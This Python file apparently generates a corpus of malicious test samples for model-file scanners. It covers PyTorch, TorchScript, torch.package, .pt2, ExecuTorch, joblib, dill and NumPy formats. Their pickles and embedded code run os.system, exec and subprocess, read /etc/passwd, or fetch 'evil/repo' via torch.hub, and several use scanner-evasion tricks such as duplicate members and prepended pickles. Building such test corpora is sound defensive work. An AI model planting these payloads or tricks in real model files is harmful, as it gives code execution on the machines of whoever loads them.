"""PyTorch containers around a call: zip, legacy, tar, TorchScript, torch.package, ExecuTorch, exported programs."""

import io
import pickle
import struct
import tarfile
import zipfile

from assemble import Build, Call, Name, New, Raw, assemble, call
from payload import CODE, COMMAND, EXPRESSION
from registry import malicious

SYSTEM = call("os", "system", COMMAND, protocol=2)
MAGIC = 0x1950A86A20F9469CFC6C
CLEAN = pickle.dumps({"epoch": 3, "arguments": {"lr": 0.1}}, 2)


def archive(members: dict, compression=zipfile.ZIP_STORED, prefix: str = "archive") -> bytes:
    """A zip as `torch.save` writes it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as file:
        for name, data in members.items():
            file.writestr(f"{prefix}/{name}" if prefix else name, data)
    return out.getvalue()


def torch_zip(data_pkl: bytes, **more) -> bytes:
    return archive({"data.pkl": data_pkl, "byteorder": b"little", "data/0": bytes(64), "version": b"3\n", **more})


def tensor(extra=None):
    """A state dict with one real tensor and, beside it, what is given."""
    storage = Raw(assemble(("storage", Name("torch", "FloatStorage"), "0", "cpu", 16), 2)[2:-1] + b"Q")
    weight = Call(Name("torch._utils", "_rebuild_tensor_v2"), storage, 0, (4, 4), (4, 1), False, Call(Name("collections", "OrderedDict")))
    return {"weight": weight, **({"extra": extra} if extra is not None else {})}


@malicious("pytorch")
def zip_with_call():
    """data.pkl of a torch zip calls a function beside a real tensor."""
    for module, name, arguments in [("os", "system", (COMMAND,)), ("builtins", "exec", (CODE,)), ("builtins", "eval", (EXPRESSION,)), ("subprocess", "Popen", (["id"],)), ("webbrowser", "open", ("http://192.0.2.1",)), ("runpy", "_run_code", (CODE, {})), ("torch.hub", "load", ("evil/repo", "m")), ("torch.utils.collect_env", "run", (COMMAND,)), ("numpy.testing._private.utils", "runstring", (CODE, {})), ("socket", "create_connection", (("192.0.2.1", 80),)), ("torch.serialization", "load", ("/tmp/x",)), ("shutil", "rmtree", ("/tmp/none",))]:
        yield f"{module}.{name}--model.pt", torch_zip(assemble(tensor(Call(Name(module, name), *arguments)), 2))


@malicious("pytorch")
def zip_call_in_other_member():
    """The call is in a member other than data.pkl, which torch.jit, torch.package or a second reader loads."""
    clean = assemble(tensor(), 2)
    for slug, member in {"constants": "constants.pkl", "attributes": "attributes.pkl", "bytecode": "bytecode.pkl", "second-data": "sub/data.pkl", "extra-json": "extra/config.json", "no-extension": "extra/weights", "upper": "DATA.PKL", "storage": "data/0", "version": "version"}.items():
        yield f"{slug}--model.pt", torch_zip(clean, **{member: SYSTEM})


@malicious("pytorch")
def zip_member_tricks():
    """Names and prefixes that scanners skip and torch reads: other roots, absolute, dotted, compressed, duplicate members."""
    data = assemble(tensor(Call(Name("os", "system"), COMMAND)), 2)
    yield "other-root--model.pt", archive({"data.pkl": data, "version": b"3\n"}, prefix="m y")
    yield "no-root--model.pt", archive({"data.pkl": data, "version": b"3\n"}, prefix="")
    yield "deflated--model.pt", archive({"data.pkl": data, "version": b"3\n"}, zipfile.ZIP_DEFLATED)
    yield "only-data-pkl--model.pt", archive({"data.pkl": data})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("archive/data.pkl", data)
        file.writestr("archive/data.pkl", CLEAN)
    yield "duplicate-first--model.pt", out.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("archive/data.pkl", CLEAN)
        file.writestr("archive/data.pkl", data)
    yield "duplicate-last--model.pt", out.getvalue()
    yield "prepended--model.pt", b"MZ" + bytes(300) + archive({"data.pkl": data, "version": b"3\n"})
    yield "prepended-pickle--model.pt", SYSTEM + archive({"data.pkl": CLEAN, "version": b"3\n"})
    yield "appended-pickle--model.pt", archive({"data.pkl": CLEAN, "version": b"3\n"}) + SYSTEM
    yield "renamed-bin--pytorch_model.bin", archive({"data.pkl": data, "version": b"3\n"})
    yield "renamed-ckpt--model.ckpt", archive({"data.pkl": data, "version": b"3\n"})
    yield "renamed-pkl--model.pkl", archive({"data.pkl": data, "version": b"3\n"})
    yield "renamed-h5--model.h5", archive({"data.pkl": data, "version": b"3\n"})


@malicious("pytorch")
def legacy_five_pickles():
    """The format before 1.6: magic, protocol, system info, object and keys, any of which can call."""
    info = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
    magic, version = pickle.dumps(MAGIC, 2), pickle.dumps(1001, 2)
    keys = pickle.dumps(["0"], 2)
    evil = call("posix", "system", COMMAND, protocol=2)
    yield "object--model.pth", magic + version + info + evil + keys
    yield "system-info--model.pth", magic + version + evil + CLEAN + keys
    yield "keys--model.pth", magic + version + info + CLEAN + evil
    yield "version--model.pth", magic + evil + info + CLEAN + keys
    yield "computed-magic--model.pth", assemble(Call(Name("builtins", "eval"), str(MAGIC)), 2) + version + info + evil + keys
    yield "magic-by-int--model.pth", assemble(Call(Name("builtins", "int"), str(MAGIC)), 2) + version + info + evil + keys
    yield "after-storages--model.pth", magic + version + info + CLEAN + keys + struct.pack("<q", 4) + bytes(16) + evil
    yield "wrong-magic--model.pth", pickle.dumps(1, 2) + version + info + evil + keys
    yield "bare-pickle--model.bin", evil
    yield "bare-protocol0--model.pt", call("os", "system", COMMAND, protocol=0)


@malicious("pytorch")
def tar_of_pickles():
    """The oldest format: a tar with sys_info, pickle, storages and tensors."""
    for slug, evil_member in {"pickle": "pickle", "storages": "storages", "tensors": "tensors", "sys-info": "sys_info"}.items():
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as file:
            for name in ("sys_info", "pickle", "storages", "tensors"):
                data = SYSTEM if name == evil_member else CLEAN
                info = tarfile.TarInfo(name)
                info.size = len(data)
                file.addfile(info, io.BytesIO(data))
        yield f"{slug}--model.pt", out.getvalue()


@malicious("pytorch")
def whole_modules():
    """Pickled modules with hooks, lambdas by dill, replaced forward, or unknown classes with a state that calls."""
    module = Name("torch.nn.modules.linear", "Linear")
    hooks = {0: Call(Name("functools", "partial"), Name("os", "system"), COMMAND)}
    yield "forward-hook--model.pt", torch_zip(assemble(Build(New(module), {"_forward_hooks": hooks, "training": False}), 2))
    yield "replaced-forward--model.pt", torch_zip(assemble(Build(New(module), {"forward": Call(Name("functools", "partial"), Name("builtins", "exec"), CODE)}), 2))
    yield "eval-activation--model.pt", torch_zip(assemble(Build(New(module), {"activation": Name("builtins", "eval")}), 2))
    yield "graph-module--model.pt", torch_zip(assemble(Call(Name("torch.fx.graph_module", "reduce_graph_module"), {"_code": "def forward(self, x):\n    __import__('os').system('id')\n    return x\n"}, "import os"), 2))
    yield "graph-module-deploy--model.pt", torch_zip(assemble(Call(Name("torch.fx.graph_module", "reduce_package_graph_module"), None, {"_code": CODE}, "m"), 2))
    yield "package-graph--model.pt", torch_zip(assemble(Call(Name("torch.fx.graph_module", "reduce_deploy_graph_module"), Name("os", "system"), {}, CODE), 2))
    yield "script-module--model.pt", torch_zip(assemble(Call(Name("torch.jit._pickle", "restore_type_tag"), Call(Name("os", "system"), COMMAND), "int"), 2))
    yield "lightning-hyper--model.ckpt", torch_zip(assemble({"state_dict": tensor(), "hyper_parameters": {"cb": Call(Name("os", "popen"), COMMAND)}}, 2))
    yield "optimizer-state--model.ckpt", torch_zip(assemble({"optimizer": {"state": {}, "param_groups": [{"hook": Call(Name("builtins", "getattr"), Name("os", "path"), "os")}]}}, 2))
    yield "rebuild-argument--model.pt", torch_zip(assemble(Call(Name("torch._utils", "_rebuild_tensor_v2"), Call(Name("os", "system"), COMMAND), 0, (1,), (1,), False, {}), 2))
    yield "backward-hooks--model.pt", torch_zip(assemble(Call(Name("torch._utils", "_rebuild_parameter"), tensor()["weight"], True, Call(Name("collections", "OrderedDict"), [[1, Call(Name("os", "system"), COMMAND)]])), 2))
    yield "persistent-id-code--model.pt", torch_zip(b"\x80\x02(X\x06\x00\x00\x00modulecos\nsystem\nX\x02\x00\x00\x00idX\x02\x00\x00\x00idtQ.")


@malicious("torchscript")
def code_members():
    """TorchScript sources that call operators with an effect, or are not TorchScript at all."""
    def script(source: str, **more) -> bytes:
        return archive({"data.pkl": b"\x80\x02c__torch__\nM\nq\x00)\x81}b.", "code/__torch__.py": source.encode(), "constants.pkl": b"\x80\x02).", "version": b"3\n", **more})

    head = "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self, x: Tensor) -> Tensor:\n"
    yield "from-file--model.pt", script(head + '    _0 = torch.from_file("/etc/passwd", False, 100)\n    return _0\n')
    yield "aten-save--model.pt", script(head + '    ops.aten.save(x, "/tmp/pwned-test")\n    return x\n')
    yield "prim-python-op--model.pt", script(head + "    _0 = ^PythonOp()(x)\n    return _0\n")
    yield "os-import--model.pt", script("import os\nos.system('id')\n" + head + "    return x\n")
    yield "exec-in-code--model.pt", script(head + "    exec(\"__import__('os').system('id')\")\n    return x\n")
    yield "custom-operator--model.pt", script(head + "    return ops.evil_ns.run_shell(x)\n")
    yield "infinite-loop--model.pt", script(head + "    while True:\n      x = torch.add(x, 1)\n    return x\n")
    yield "custom-class--model.pt", script(head + "    _0 = __torch__.torch.classes.evil.Shell()\n    return x\n")
    yield "call-in-constants--model.pt", script(head + "    return x\n", **{"constants.pkl": SYSTEM})
    yield "debug-pkl--model.pt", script(head + "    return x\n", **{"code/__torch__.py.debug_pkl": SYSTEM})
    yield "load-inside--model.pt", script(head + '    _0 = torch.load("/tmp/stage.pt")\n    return x\n')
    yield "rpc--model.pt", script(head + '    _0 = torch.distributed.rpc.rpc_async("evil", "f", (x,))\n    return x\n')
    yield "huge-allocation--model.pt", script(head + "    return torch.zeros([1000000000000, 1000], dtype=None)\n")


@malicious("pytorch")
def torch_package():
    """torch.package archives carry Python source that is executed on import."""
    base = {".data/version": b"6\n", ".data/extern_modules": b"os\n", ".data/python_version": b"3.11"}
    yield "source--package.pt", archive({**base, "evil/__init__.py": CODE.encode(), "model/model.pkl": b"\x80\x02cevil\nM\n)\x81."})
    yield "pickle--package.pt", archive({**base, "model/model.pkl": SYSTEM})
    yield "extern-subprocess--package.pt", archive({**base, ".data/extern_modules": b"subprocess\n", "m/__init__.py": b"import subprocess\nsubprocess.run(['id'])\n"})
    yield "interned--package.pt", archive({**base, "<torch_package_0>/m.py": CODE.encode(), "m/model.pkl": b"\x80\x02c<torch_package_0>.m\nM\n)\x81."})


@malicious("pytorch")
def exported_program():
    """torch.export .pt2 archives: pickled examples and constants, serialised graph with code, shared libraries of AOTInductor."""
    base = {"version": b"2", "archive_format": b"pt2", "archive_version": b"0", "byteorder": b"little", "models/model.json": b'{"graph_module": {"graph": {"nodes": []}}, "opset_version": {}}'}
    yield "sample-inputs--model.pt2", archive({**base, "data/sample_inputs/model.pt": torch_zip(SYSTEM)}, prefix="model")
    yield "constants--model.pt2", archive({**base, "data/constants/model.pt": SYSTEM}, prefix="model")
    yield "aotinductor-so--model.pt2", archive({**base, "data/aotinductor/model/c.so": b"\x7fELF\x02\x01\x01" + bytes(57), "data/aotinductor/model/c.cpp": b"int main(){system(\"id\");}"}, prefix="model")
    yield "old-serialized--model.pt2", archive({"version": b"1", "serialized_exported_program.json": b"{}", "serialized_state_dict.pt": torch_zip(SYSTEM), "serialized_constants.pt": CLEAN}, prefix="")
    yield "sympy-expression--model.pt2", archive({**base, "models/model.json": b'{"graph_module": {"graph": {"nodes": [], "sym_int_values": {"s0": {"as_expr": {"expr_str": "__import__(\'os\').system(\'id\')"}}}}}}'}, prefix="model")
    yield "operator-target--model.pt2", archive({**base, "models/model.json": b'{"graph_module": {"graph": {"nodes": [{"target": "os.system", "inputs": [{"name": "c", "arg": {"as_string": "id"}}]}]}}}'}, prefix="model")


@malicious("executorch")
def executorch_programs():
    """ExecuTorch .pte flatbuffers with hostile offsets, and zips or pickles under that name."""
    yield "pickle--model.pte", SYSTEM
    yield "zip--model.pte", torch_zip(SYSTEM)
    yield "root-offset-beyond--model.pte", struct.pack("<I", 0x7FFFFFFF) + b"ET12" + bytes(64)
    yield "segment-beyond--model.pte", struct.pack("<I", 64) + b"ET12eh00" + struct.pack("<IQQ", 32, 1 << 40, 1 << 41) + bytes(64)
    yield "truncated--model.pte", struct.pack("<I", 16) + b"ET12"
    yield "appended-elf--model.pte", struct.pack("<I", 20) + b"ET12" + bytes(40) + b"\x7fELF\x02\x01\x01" + bytes(200)


@malicious("joblib")
def compressed_calls():
    """joblib files (each compression, and streams cut or joined) that call."""
    import bz2
    import gzip
    import lzma
    import zlib

    evil = call("os", "system", COMMAND, protocol=4)
    yield "plain--model.joblib", evil
    yield "zlib--model.joblib", zlib.compress(evil)
    yield "zlib-level0--model.joblib", zlib.compress(evil, 0)
    yield "zlib-level9--model.joblib", zlib.compress(evil, 9)
    yield "gzip--model.joblib.gz", gzip.compress(evil)
    yield "gzip-two-members--model.joblib", gzip.compress(b"") + gzip.compress(evil)
    yield "bz2--model.joblib.bz2", bz2.compress(evil)
    yield "xz--model.joblib.xz", lzma.compress(evil)
    yield "lzma-alone--model.joblib.lzma", lzma.compress(evil, lzma.FORMAT_ALONE)
    yield "cut-zlib--model.joblib", zlib.compress(evil + bytes(100_000))[:-20]
    yield "trailing-zlib--model.joblib", zlib.compress(evil) + b"junk"
    yield "wrong-suffix-gz--model.pkl", gzip.compress(evil)
    yield "pickle-gz--model.pkl.gz", gzip.compress(evil)
    try:
        import lz4.frame
        import zstandard

        yield "lz4--model.joblib.lz4", lz4.frame.compress(evil)
        yield "zstd--model.pkl.zst", zstandard.compress(evil)
    except ImportError:
        pass
    out = io.BytesIO()
    wrapper = b"\x80\x04\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x93)\x81}(\x8c\x08subclass\x8c\x05numpy\x8c\x07ndarray\x93\x8c\x05shapeK\x02\x85\x8c\x05order\x8c\x01C\x8c\x05dtype\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02f8\x85R\x8c\nallow_mmap\x88ub"
    out.write(wrapper + bytes(16) + call("os", "system", COMMAND, protocol=2)[2:])
    yield "after-raw-array--model.joblib", out.getvalue()
    objects = wrapper.replace(b"\x8c\x02f8", b"\x8c\x02O8")
    yield "object-array--model.joblib", objects + call("os", "system", COMMAND, protocol=2) + b"."
    yield "memmap-filename--model.joblib", assemble(Build(New(Name("joblib.numpy_pickle_compat", "NDArrayWrapper")), {"filename": "../../../../etc/passwd", "subclass": Name("numpy", "memmap"), "allow_mmap": True}), 2)
    yield "zndarray-filename--model.joblib", assemble(Build(New(Name("joblib.numpy_pickle_compat", "ZNDArrayWrapper")), {"filename": "/tmp/stage.z", "init_args": [], "state": {}}), 2)


@malicious("dill")
def functions_with_effect():
    """dill and cloudpickle functions, classes and closures whose code runs a command, written by the real libraries."""
    import cloudpickle
    import dill

    dill.extend(False)

    def runs(_):
        import os

        return os.system("id")

    class Reduced:
        def __reduce__(self):
            return runs, (1,)

    class Setter:
        def __setstate__(self, state):
            exec("import os")

        def __getstate__(self):
            return {"a": 1}

    for slug, value in {"function": runs, "called": Reduced(), "class-setstate": Setter(), "lambda-eval": lambda x: eval(x), "lambda-subprocess": lambda: __import__("subprocess").getoutput("id")}.items():
        yield f"dill-{slug}--a.pkl", dill.dumps(value, recurse=True)
        yield f"cloudpickle-{slug}--a.pkl", cloudpickle.dumps(value)


@malicious("numpy")
def object_arrays():
    """NPY and NPZ files whose object arrays call when loaded with allow_pickle; NPY headers that are evaluated or lie."""
    def npy(header: bytes, data: bytes = b"", version=(1, 0)) -> bytes:
        size = "<H" if version == (1, 0) else "<I"
        return b"\x93NUMPY" + bytes(version) + struct.pack(size, len(header)) + header + data

    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    for module, name, argument in [("os", "system", COMMAND), ("builtins", "exec", CODE), ("socket", "gethostbyname", "x.example.invalid"), ("subprocess", "getoutput", "id")]:
        yield f"{module}--array.npy", npy(head + b" " * 60 + b"\n", call(module, name, argument))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
            file.writestr("x.npy", npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n", bytes(8)))
            file.writestr("y.npy", npy(head + b"\n", call(module, name, argument)))
        yield f"npz-{module}--arrays.npz", out.getvalue()
    yield "version2--array.npy", npy(head + b"\n", SYSTEM, (2, 0))
    yield "version3--array.npy", npy(head + b"\n", SYSTEM, (3, 0))
    yield "plain-then-pickle--array.npy", npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n", bytes(8) + SYSTEM)
    yield "bare-pickle--array.npy", SYSTEM
    yield "npz-raw-pickle--arrays.npz", archive({"x.npy": SYSTEM}, prefix="")
    yield "npz-pickle-member--arrays.npz", archive({"x.npy": npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n", bytes(8)), "meta.pkl": SYSTEM}, prefix="")
    yield "structured-object--array.npy", npy(b"{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }\n", SYSTEM)
    yield "header-expression--array.npy", npy(b"{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }\n", bytes(8))
    yield "huge-shape--array.npy", npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999, 99999999), }\n", bytes(8))
    yield "deep-header--array.npy", npy(b"{'descr': " + b"(" * 5000 + b")" * 5000 + b"}\n")
    yield "traversal-member--arrays.npz", archive({"../../../tmp/x.npy": npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n", bytes(8))}, prefix="")
